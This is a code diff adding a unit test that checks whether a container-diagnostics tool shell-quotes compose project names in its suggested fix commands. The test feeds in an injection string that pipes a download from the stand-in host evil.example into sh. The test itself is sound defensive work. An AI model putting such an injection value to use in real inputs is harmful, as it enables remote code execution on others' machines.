@@ -50,6 +50,14 @@ describe('static findings on recorded scans', () => {
     expect(rules(fixtureTopology('lab'), 'rolling-update-replicas')).toEqual([]);
   });
 
+  it('fix commands quote names taken from labels: a hostile compose project cannot inject a command', () => {
+    const t = fixtureTopology('rolling-update');
+    const hostile = "x; curl evil.example | sh; echo 'y";
+    for (const c of t.containers) if (c.compose) c.compose.project = hostile;
+    const fix = diagnoseTopology(t).find((f) => f.rule === 'rolling-update-replicas')?.fix ?? '';
+    expect(fix).toContain(`docker compose -p 'x; curl evil.example | sh; echo '\\''y'`);
+  });
+
   it('host-network port collision names both claimants', () => {
     const t = fixtureTopology('host-port-collision');
     const f = rules(t, 'host-port-collision');
